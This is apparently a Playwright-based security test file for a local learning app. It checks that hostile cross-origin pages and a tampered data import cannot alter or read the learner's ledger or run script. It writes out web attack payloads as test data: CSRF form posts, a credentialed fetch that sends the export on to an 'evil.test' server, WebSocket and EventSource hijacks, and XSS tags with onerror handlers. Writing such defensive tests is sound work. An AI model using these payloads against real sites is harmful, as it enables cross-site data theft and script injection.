"""A page of somebody else in the learner's own browser, who is let in: whatever it tries, the ledger stays as it is."""

import json
import os
import re
import threading
import time
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import soak
from chromium import started
from labs_entry import TOKEN
from playwright.sync_api import Browser, BrowserContext, Page

from ironlaw.ledger import open_ledger
from ironlaw.measure.software_host import machine
from ironlaw.server import secret

SESSION = "/lab/lab_01_magnitude/sse?session_id=s_evil"
WAYS = {
    "picture": '<img src="{url}{session}">',
    "frame": '<iframe src="{url}{session}"></iframe><iframe src="{url}/lab/lab_01_magnitude/"></iframe>',
    "stylesheet": '<link rel="stylesheet" href="{url}{session}">',
    "script": '<script src="{url}{session}"></script><script src="{url}/export"></script>',
    "audio": '<audio src="{url}{session}" autoplay></audio>',
    "navigation": '<meta http-equiv="refresh" content="0;url={url}/lab/lab_01_magnitude/">',
    "form": '<form id="f" method="post" action="{url}/do/reset"></form><script>f.submit()</script>',
    "fetch": '<script>fetch("{url}/export",{{credentials:"include"}}).then(r=>r.text()).then(t=>'
    'fetch("/got",{{method:"POST",body:t}}))</script>',
    "no-cors": '<script>fetch("{url}/do/reset",{{method:"POST",mode:"no-cors",credentials:"include"}})</script>',
    "socket": '<script>new WebSocket("{ws}/direct").onopen=()=>fetch("/got",{{method:"POST"}});'
    'new WebSocket("{ws}/lab/lab_01_magnitude/ws?session_id=s_evil")</script>',
    "events": '<script>new EventSource("{url}{session}",{{withCredentials:true}})</script>',
}  # fmt: skip


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with started("--host-resolver-rules=MAP evil.test 127.0.0.1") as browser:
        yield browser


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("home")


@pytest.fixture(scope="module")
def server(home: Path) -> Iterator[soak.Server]:
    with soak.serving(IRONLAW_HOME=str(home), IRONLAW_LEDGER="") as running:
        yield running


@pytest.fixture(scope="module")
def learner(chromium: Browser, server: soak.Server, home: Path) -> Iterator[BrowserContext]:
    """A browser that was opened as `ironlaw labs` opens it: by the file that leads to the address."""
    with chromium.new_context() as context:
        context.set_default_timeout(120_000)  # ms: a loaded machine is slow, not wrong
        page = context.new_page()
        os.environ["IRONLAW_HOME"] = str(home)
        try:
            place = secret.redirect_file(1, f"{server.url}/?token={TOKEN}")
        finally:
            os.environ.pop("IRONLAW_HOME")
        page.goto(place.as_uri())
        page.wait_for_url(f"{server.url}/")
        page.wait_for_selector("h1")
        assert page.locator("h1").inner_text() == "ironlaw" and "token" not in page.url
        assert page.evaluate("document.cookie") == "" and page.evaluate("document.referrer") == ""
        yield context


class Elsewhere:
    """A server of somebody else; `pages` are its pages by path, `got` what was sent to it and from which of them."""

    def __init__(self) -> None:
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(outer.pages[self.path].encode())

            def do_POST(self) -> None:
                outer.got.append((self.headers.get("referer"), self.rfile.read(int(self.headers.get("content-length") or 0))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.pages: dict[str, str] = {}
        self.got: list[tuple[str | None, bytes]] = []
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    running = Elsewhere()
    yield running
    running.server.shutdown()


def events(home: Path) -> list[str]:
    with open_ledger(home / "ledger.db") as ledger:
        return [event.id for event in ledger.history()]


@pytest.mark.parametrize("host", ["evil.test", "127.0.0.1"])  # another site, and another port of this one: the cookie goes along
def test_nothing_is_written_and_nothing_read(learner: BrowserContext, server: soak.Server, home: Path, elsewhere: Elsewhere, host: str):
    """Every way from a page of its own, all at a time; each has asked the server, and has its answer, before the ledger is looked at."""
    before, threads = events(home), server.held()["threads"]
    elsewhere.got.clear()
    asked, unanswered = {way: [] for way in WAYS}, []
    pages = {way: learner.new_page() for way in WAYS}

    def ask(way, request):
        if request.url.startswith(server.url):
            asked[way].append(request)
            unanswered.append(request)

    def answered(request):
        if request in unanswered:
            unanswered.remove(request)

    for way, page in pages.items():
        page.on("request", partial(ask, way))
        page.on("requestfinished", answered)
        page.on("requestfailed", answered)
        page.on("websocket", lambda socket, way=way: asked[way].append(socket))
        elsewhere.pages[f"/{way}"] = WAYS[way].format(url=server.url, ws=server.url.replace("http", "ws", 1), session=SESSION)
        page.goto(f"http://{host}:{elsewhere.server.server_port}/{way}", wait_until="commit")
    patience = time.monotonic() + 120
    while unanswered or not all(asked.values()):
        assert time.monotonic() < patience, (asked, unanswered)
        page.wait_for_timeout(50)
    page.wait_for_timeout(300)  # what a page would do with an answer
    for page in pages.values():
        page.close()
    assert events(home) == before
    assert elsewhere.got == []
    assert server.held()["threads"] < threads + 6


def hostile(home: Path) -> dict:
    """An export with a tag in every text that a page might show, and that the schema allows."""
    evil = '<img src=x onerror="window.stolen=1" class="evil"><script class="evil">window.stolen=1</script>'
    lab = "lab_01_magnitude"
    time = {"samples": 9, **dict.fromkeys(("wall_s", "low_s", "high_s", "best_s", "sync_s", "sync_low_s", "sync_high_s"), 2e-6)}
    rows = [{"kind": "launch", "op": op, "params": {"dtype": evil}, "device": evil, **time} for op in ("nothing", "add")]
    told = {"rows": rows, "library": evil, "software": {"python": evil, evil: evil}, "noise": {"reasons": [evil]}}
    with open_ledger(home / "fresh.db") as ledger:
        ledger.set_learner_name('<img src=x onerror="window.stolen=1" class="evil">')
        ledger.commit_prediction(lab, "act1", "e6", 1e6, 4, True)
        ledger.append(lab, "reflection", {"question": "act1_reflection", "choice": "own_stack", "correct": True})
        ledger.commit_prediction(lab, "act2", "memory", "memory", 4, True)
        ledger.append(lab, "measured", {"experiment": "tiny_ops", "machine": machine(), **told})
        ledger.append(lab, "design", {"device": evil, "model": evil, "note": evil})
        return ledger.export()


def test_a_hostile_ledger_runs_nothing(learner: BrowserContext, server: soak.Server, home: Path, tmp_path: Path):
    """It is accepted; in no page does a script or a tag of it arrive."""
    (tmp_path / "evil.json").write_text(json.dumps(hostile(tmp_path)))
    page = learner.new_page()
    page.goto(f"{server.url}/")
    page.locator("#file").set_input_files(tmp_path / "evil.json")
    page.locator("form[action='/do/import'] button").click()
    page.wait_for_selector(".said")
    for place in ("/", "/lab/lab_01_magnitude/", "/lab/lab_11_roofline/", "/lab/review/"):
        page.goto(server.url + place)
        if place != "/":
            page.wait_for_selector(".il-piece", state="attached")
            page.wait_for_timeout(500)
        assert page.evaluate("window.stolen") is None
        assert deep(page, ".evil") == 0
    page.close()


def test_the_policy_alone_would_stop_it(learner: BrowserContext, server: soak.Server):
    """Were a text to come through unescaped: neither its script nor its handler runs in a lab's page."""
    page = learner.new_page()
    page.goto(f"{server.url}/lab/lab_01_magnitude/")
    page.wait_for_selector(".il-piece", state="attached")
    page.evaluate(
        """() => { const div = document.createElement('div'); document.body.append(div);
        div.innerHTML = '<img src=x onerror="window.stolen=1"><a id="l" href="javascript:window.stolen=1">x</a>';
        const s = document.createElement('script'); s.textContent = 'window.stolen=1'; document.body.append(s);
        document.getElementById('l').click(); }"""
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.stolen") is None
    page.close()


def deep(page: Page, selector: str) -> int:
    """How many there are, inside open shadow roots too."""
    count = """(selector) => { const all = (root) => root.querySelectorAll(selector).length +
        [...root.querySelectorAll('*')].reduce((n, e) => n + (e.shadowRoot ? all(e.shadowRoot) : 0), 0); return all(document); }"""
    return int(page.evaluate(count, selector))


def test_links_of_other_pages_lead_to_the_door(learner: BrowserContext, server: soak.Server, elsewhere: Elsewhere):
    elsewhere.pages["/"] = f'<a id="x" href="{server.url}/lab/lab_01_magnitude/">x</a>'
    page = learner.new_page()
    page.goto(f"http://evil.test:{elsewhere.server.server_port}/")
    page.locator("#x").click()
    page.wait_for_url(re.compile("/lab/"))
    assert "another page" in page.locator("h1").inner_text()
    page.locator("main a").click()
    page.wait_for_selector(".il-opening, .il-piece", state="attached")
    page.close()
